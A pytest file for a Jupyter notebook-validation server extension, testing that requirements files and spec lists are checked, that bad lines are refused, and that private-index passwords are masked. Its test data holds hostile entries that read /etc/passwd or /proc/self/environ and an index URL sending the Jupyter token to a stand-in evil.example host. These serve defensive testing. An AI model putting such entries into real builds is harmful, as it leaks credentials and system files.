"""One requirements check for the three sources (requirements.txt beside the
notebook, requirementsFile, the spec list), through a real Jupyter server
(pytest-jupyter) with the real local backend: every refusal is a 400 at
submit naming the source, line and reason, and creates nothing; local paths
inside the root are hashed into the environment's cache key (real uv
builds); index credentials are used by the build and appear nowhere under
the data dir nor in any response."""

from __future__ import annotations

import base64
import http.server
import json
import os
import secrets
import threading
from pathlib import Path

import pytest
from helpers import make_local_package as _local_package
from helpers import make_wheel as _wheel
from helpers import rest_call as call
from helpers import rest_wait_terminal, write_notebook
from tornado.httpclient import HTTPClientError

import jupyter_nbvalidation.environment.requirements as reqmod
from jupyter_nbvalidation.core.model import Phase, Reason
from jupyter_nbvalidation.core.redaction import scrub


async def refused(jp_fetch, body) -> tuple[int, dict]:
    with pytest.raises(HTTPClientError) as e:
        await call(jp_fetch, "jobs", method="POST", body=body)
    return e.value.code, json.loads(e.value.response.body)["error"]


async def wait_terminal(jp_fetch, name, timeout=400):
    return await rest_wait_terminal(jp_fetch, name, timeout)


def nothing_created(jp_serverapp) -> bool:
    backend = jp_serverapp.web_app.settings["nbvalidation_service"].backend
    jobs = backend.root / "jobs"
    return not jobs.exists() or not any(jobs.iterdir())


async def no_jobs(jp_fetch, jp_serverapp) -> None:
    assert (await call(jp_fetch, "jobs"))["items"] == []
    assert nothing_created(jp_serverapp)


@pytest.fixture
def outside(tmp_path):
    """A folder outside the server root holding a file with a marker."""
    d = tmp_path / "outside"
    d.mkdir()
    (d / "secret.txt").write_text("OUTSIDE-MARKER-7f3a\n")
    (d / "pkg").mkdir()
    (d / "pkg" / "pyproject.toml").write_text("[project]\nname='outsidepkg'\nversion='1'\n")
    return d


async def test_a_symlinked_requirements_txt_is_refused_unread(jp_fetch, jp_serverapp, jp_root_dir, outside):
    write_notebook(jp_root_dir / "p" / "nb.ipynb", ["print(1)"])
    for target in ("/proc/self/environ", str(outside / "secret.txt")):
        link = jp_root_dir / "p" / "requirements.txt"
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        code, err = await refused(jp_fetch, {"notebook": {"path": "p/nb.ipynb"}})
        assert code == 400, err
        assert err["field"] == "spec.podConfig.buildConfig.requirementsFile"
        assert "requirements.txt beside the notebook (p/requirements.txt)" in err["message"]
        assert "outside the server root" in err["message"] and "not read" in err["message"]
        assert "OUTSIDE-MARKER" not in err["message"] and "JUPYTER" not in err["message"]
        await no_jobs(jp_fetch, jp_serverapp)


@pytest.mark.parametrize("entry,reason", [
    ("-r {outside}/secret.txt", "--requirement"),
    ("-c /etc/passwd", "--constraint"),
    ("-e {outside}/pkg", "-e"),
    ("--editable={outside}/pkg", "-e"),
    ("--constr constraints.txt", "--constr abbreviates --constraint"),
    ("--edit ./inside", "--edit abbreviates --editable"),
    ("--requirem other.txt", "--requirem abbreviates --requirement"),
    ("--requirement=/etc/passwd", "--requirement"),
    ("-r/etc/passwd", "--requirement"),
    ("file:///etc/passwd", "outside the server root"),
    ("outsidepkg @ file://{outside}/pkg", "outside the server root"),
    ("{outside}/pkg", "outside the server root"),
    ("../../outside/pkg", "outside the server root"),
    ("--find-links {outside}", "--find-links"),
    ("-f file://{outside}", "--find-links"),
    ("--trusted-host example.com", "turns off TLS verification"),
    ("--trust example.com", "--trust abbreviates --trusted-host"),
    ("numpy --config-settings=x=y", "--config-settings is not accepted"),
    ("--index-url http://evil.example/${{JUPYTER_TOKEN}}/simple", "environment variables"),
    ("git+file:///srv/repo", "git+file URL scheme is not accepted"),
    ("--upgrade numpy", "--upgrade is not accepted"),
    ("-U numpy", "-U is not an accepted option"),
])
async def test_spec_list_entries_are_checked(jp_fetch, jp_serverapp, jp_root_dir, outside, entry, reason):
    write_notebook(jp_root_dir / "nb.ipynb", ["print(1)"])
    (jp_root_dir / "inside").mkdir()
    (jp_root_dir / "constraints.txt").write_text("numpy<3\n")
    (jp_root_dir / "other.txt").write_text("six\n")
    entry = entry.format(outside=outside)
    code, err = await refused(jp_fetch, {"notebook": {"path": "nb.ipynb"},
                                         "podConfig": {"buildConfig": {"requirements": ["six", entry]}}})
    assert code == 400, err
    assert err["field"] == "spec.podConfig.buildConfig.requirements", err
    assert err["message"].startswith("spec.podConfig.buildConfig.requirements[1]: "), err
    assert reason in err["message"], err
    assert "OUTSIDE-MARKER" not in err["message"]
    await no_jobs(jp_fetch, jp_serverapp)


async def test_requirements_files_are_checked_line_by_line(jp_fetch, jp_serverapp, jp_root_dir, outside):
    write_notebook(jp_root_dir / "proj" / "nb.ipynb", ["print(1)"])
    deps = jp_root_dir / "proj" / "deps"
    deps.mkdir()
    (deps / "inner.txt").write_text("six\n-r ../../../outside/secret.txt\n")
    (deps / "reqs.txt").write_text("# pinned\ntabulate==0.9.0\n-r inner.txt\n")
    code, err = await refused(jp_fetch, {"notebook": {"path": "proj/nb.ipynb"},
                                         "podConfig": {"buildConfig": {"requirementsFile": "deps/reqs.txt"}}})
    assert code == 400 and err["field"] == "spec.podConfig.buildConfig.requirementsFile", err
    # the chain of files and lines that led there
    assert "'deps/reqs.txt' line 3: -r inner.txt line 2: --requirement" in err["message"], err
    assert "outside the server root" in err["message"]
    # the implicit requirements.txt beside the notebook gets the same check
    (jp_root_dir / "proj" / "requirements.txt").write_text("six\n\n--constr x.txt\n")
    code, err = await refused(jp_fetch, {"notebook": {"path": "proj/nb.ipynb"}})
    assert code == 400 and "(proj/requirements.txt) line 3: --constr abbreviates --constraint" in err["message"]
    # a symlink to a file inside the root is fine (and read through)
    (jp_root_dir / "proj" / "requirements.txt").unlink()
    (jp_root_dir / "proj" / "requirements.txt").symlink_to(deps / "reqs.txt")
    (deps / "inner.txt").write_text("six\n")
    job = await call(jp_fetch, "jobs", method="POST", body={"notebook": {"path": "proj/nb.ipynb"},
                                                            "podConfig": {"buildConfig": {"enabled": True}}})
    await call(jp_fetch, "jobs", job["metadata"]["name"], method="DELETE")


async def test_an_oversized_requirements_file_is_refused_before_it_is_read(jp_fetch, jp_serverapp, jp_root_dir):
    """A 1.5 GB (sparse) requirements.txt: refused from its size, the server's memory does not grow."""
    write_notebook(jp_root_dir / "big" / "nb.ipynb", ["print(1)"])
    with open(jp_root_dir / "big" / "requirements.txt", "wb") as f:
        f.truncate(1536 * 2**20)

    def rss() -> int:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
        raise AssertionError("no VmRSS")

    before = rss()
    code, err = await refused(jp_fetch, {"notebook": {"path": "big/nb.ipynb"}})
    assert code == 400 and f"the limit is {reqmod.MAX_FILE_BYTES} bytes" in err["message"], err
    assert rss() - before < 100 * 2**20
    await no_jobs(jp_fetch, jp_serverapp)


def test_the_checker_on_its_own(tmp_path):
    """Accepted lines, how they are stored and what the build gets."""
    root = tmp_path / "root"
    (root / "nb" / "pkg").mkdir(parents=True)
    (root / "nb" / "pkg" / "m.py").write_text("x = 1\n")
    (root / "nb" / "c.txt").write_text("numpy<3\n")
    (root / "nb" / "r.txt").write_text(
        'numpy>=1.0 ; python_version >= "3.8"  # a comment\n'
        "--extra-index-url https://alice:S3CR3T-pw@example.com/simple\n"
        "tool @ https://TOKEN123@example.com/tool-1.0-py3-none-any.whl\n"
        "./pkg\n-e ./pkg[extra]\n-c c.txt\n"
        "tabulate==0.9.0 \\\n   --hash=sha256:abcdef0123\n")
    spec = {"notebook": {"path": "nb/x.ipynb"}, "podConfig": {"buildConfig": {"requirementsFile": "r.txt"}}}
    r = reqmod.collect(spec, str(root), str(root / "nb" / "x.ipynb"))
    pkg = str((root / "nb" / "pkg").resolve())
    assert r.display_lines == ['numpy>=1.0 ; python_version >= "3.8"',
                               "--extra-index-url https://alice:***@example.com/simple",
                               "tool @ https://***@example.com/tool-1.0-py3-none-any.whl",
                               pkg, f"{pkg}[extra]", "tabulate==0.9.0 --hash=sha256:abcdef0123"]
    assert r.lines[1] == "--extra-index-url https://alice:${NBV_SECRET_0}@example.com/simple"
    assert r.secrets == ["S3CR3T-pw", "TOKEN123"] and r.constraints == ["numpy<3"]
    snap = r.snapshot()
    assert b"S3CR3T" not in snap["requirements.txt"] and b"TOKEN123" not in snap["requirements.txt"]
    back = reqmod.from_snapshot(snap["requirements.txt"].decode(), snap["constraints.txt"].decode(), "x")
    assert back.lines == r.lines and back.display_lines == r.display_lines and len(back.secrets) == 2
    key = r.cache_key_material()
    assert "S3CR3T" not in json.dumps(key) and set(key["local"]) == {pkg}
    (root / "nb" / "pkg" / "m.py").write_text("x = 2\n")
    assert r.cache_key_material()["local"][pkg] != key["local"][pkg]
    assert scrub("GET https://alice:S3CR3T-pw@example.com/ x S3CR3T-pw", ["S3CR3T-pw"]) == \
        "GET https://alice:***@example.com/ x ***"
    assert scrub("GET https://TOKEN123@example.com/x") == "GET https://***@example.com/x"  # not given: masked too


# --- real builds -------------------------------------------------------------------

class PrivateIndex:
    """A PEP 503 index on loopback that needs HTTP basic auth (user:password)."""

    def __init__(self, password: str):
        self.password = password
        self.wheel_name = "nbvprivpkg-1.0-py3-none-any.whl"
        self.wheel = _wheel("nbvprivpkg", "1.0", "VALUE = 'from the private index'\n")
        self.authorized = 0
        index = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                want = "Basic " + base64.b64encode(f"alice:{index.password}".encode()).decode()
                if self.headers.get("Authorization") != want:
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Basic realm="private"')
                    self.end_headers()
                    return
                index.authorized += 1
                if self.path.rstrip("/") == "/simple/nbvprivpkg":
                    body = f'<a href="/files/{index.wheel_name}">{index.wheel_name}</a>'.encode()
                    ctype = "text/html"
                elif self.path == f"/files/{index.wheel_name}":
                    body, ctype = index.wheel, "application/octet-stream"
                else:
                    self.send_response(404)
                    self.end_headers()
                    return
                self.send_response(200)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command == "GET":
                    self.wfile.write(body)

            def do_HEAD(self):  # noqa: N802
                self.do_GET()

            def log_message(self, *a):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://alice:{password}@127.0.0.1:{self.httpd.server_address[1]}/simple"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()


def grep_tree(folder: Path, needle: bytes) -> list[str]:
    hits = []
    for dirpath, _, filenames in os.walk(folder):
        for f in filenames:
            p = Path(dirpath) / f
            try:
                if not p.is_symlink() and needle in p.read_bytes():
                    hits.append(str(p))
            except OSError:
                pass
    return hits


async def test_an_index_password_is_used_and_never_stored_or_shown(jp_fetch, jp_serverapp, jp_root_dir):
    password = "pw-" + secrets.token_hex(12)
    index = PrivateIndex(password)
    try:
        write_notebook(jp_root_dir / "priv" / "nb.ipynb", ["import nbvprivpkg\nprint(nbvprivpkg.VALUE)"])
        (jp_root_dir / "priv" / "requirements.txt").write_text(f"--extra-index-url {index.url}\nnbvprivpkg==1.0\n")
        ok = await call(jp_fetch, "jobs", method="POST", body={"notebook": {"path": "priv/nb.ipynb"}})
        # the spec list too: its stored copy is redacted
        listed = await call(jp_fetch, "jobs", method="POST", body={
            "notebook": {"path": "priv/nb.ipynb"},
            "podConfig": {"buildConfig": {"requirements": [f"--extra-index-url {index.url}", "--pre",
                                                           "nbvprivpkg==1.0"]}}})
        missing = await call(jp_fetch, "jobs", method="POST", body={
            "notebook": {"path": "priv/nb.ipynb"},
            "podConfig": {"buildConfig": {"requirements": [f"--index-url {index.url}", "nbvprivpkg==9.9"]}}})
        done = {j["metadata"]["name"]: await wait_terminal(jp_fetch, j["metadata"]["name"])
                for j in (ok, listed, missing)}
        for j in (ok, listed):
            st = done[j["metadata"]["name"]]["status"]
            assert st["phase"] == Phase.SUCCEEDED, st
            nb = await call(jp_fetch, "jobs", j["metadata"]["name"], "notebook")
            assert "from the private index" in nb["cells"][0]["outputs"][0]["text"]
        st = done[missing["metadata"]["name"]]["status"]
        assert (st["phase"], st["reason"]) == (Phase.FAILED, Reason.BUILD_FAILED), st
        # the installer's own error first (issue 21), the credential masked in it as everywhere
        assert st["message"].removeprefix("The environment build failed: ").startswith(("error:", "×")), st
        assert index.authorized >= 2  # the build did use the password
        assert "alice:***@" in done[listed["metadata"]["name"]]["spec"]["podConfig"]["buildConfig"]["requirements"][0]

        # nowhere under the data dir, in no answer
        data_dir = jp_serverapp.web_app.settings["nbvalidation_service"].backend.root
        assert grep_tree(data_dir, password.encode()) == []
        answers = [json.dumps(await call(jp_fetch, "jobs"))]
        for name in done:
            for sub in ((), ("events",), ("timeline",), ("notebook",), ("buildlog",)):
                try:  # the failed build has no executed notebook: its 404 is an answer too
                    answers.append((await call(jp_fetch, "jobs", name, *sub, raw=True)).body.decode())
                except HTTPClientError as e:
                    answers.append(e.response.body.decode())
        assert not [a for a in answers if password in a]
        assert any("alice:***@127.0.0.1" in a for a in answers)  # shown, masked
    finally:
        index.close()


async def test_editing_a_local_package_inside_the_root_rebuilds(jp_fetch, jp_serverapp, jp_root_dir):
    write_notebook(jp_root_dir / "lp" / "nb.ipynb", ["import mylocalpkg\nprint('value', mylocalpkg.VALUE)"])
    _local_package(jp_root_dir / "lp" / "src" / "mylocalpkg", 1)
    (jp_root_dir / "lp" / "requirements.txt").write_text("./src/mylocalpkg\n")

    async def run() -> tuple[str, str]:
        job = await call(jp_fetch, "jobs", method="POST", body={"notebook": {"path": "lp/nb.ipynb"}})
        done = await wait_terminal(jp_fetch, job["metadata"]["name"])
        assert done["status"]["phase"] == Phase.SUCCEEDED, done["status"]
        nb = await call(jp_fetch, "jobs", job["metadata"]["name"], "notebook")
        return nb["cells"][0]["outputs"][0]["text"].strip(), done["status"]["buildStatus"]["imageReference"]

    first, env1 = await run()
    assert first == "value 1"
    again, env_again = await run()
    assert (again, env_again) == ("value 1", env1)  # unchanged: the cached environment
    (jp_root_dir / "lp" / "src" / "mylocalpkg" / "mylocalpkg" / "__init__.py").write_text("VALUE = 2\n")
    second, env2 = await run()
    assert second == "value 2" and env2 != env1  # edited: a new environment


def test_a_local_project_refreshes_only_itself_in_uvs_cache(tmp_path):
    """Issue 21: a requirement naming a local path made every build pass uv --refresh (every cached
    package fetched again); now only the local package is refreshed, when its name can be read."""
    from jupyter_nbvalidation.backends.local import uv_refresh_args

    _local_package(tmp_path / "proj", 1)
    cfg = tmp_path / "cfg"
    cfg.mkdir()
    (cfg / "setup.cfg").write_text("[metadata]\nname = My_Cfg.Pkg\n")
    wheel = tmp_path / "Some_Pkg-1.0-py3-none-any.whl"
    sdist = tmp_path / "other.pkg-2.0.tar.gz"
    assert uv_refresh_args([]) == []
    assert uv_refresh_args([str(tmp_path / "proj"), str(cfg), str(wheel), str(sdist), str(tmp_path / "proj")]) == [
        "--refresh-package", "some-pkg", "--refresh-package", "my-cfg-pkg",
        "--refresh-package", "other-pkg", "--refresh-package", "mylocalpkg"]  # in path order
    setup_py_only = tmp_path / "legacy"
    setup_py_only.mkdir()
    (setup_py_only / "setup.py").write_text("from setuptools import setup\nsetup(name='legacy')\n")
    assert uv_refresh_args([str(tmp_path / "proj"), str(setup_py_only)]) == ["--refresh"]  # its name is code
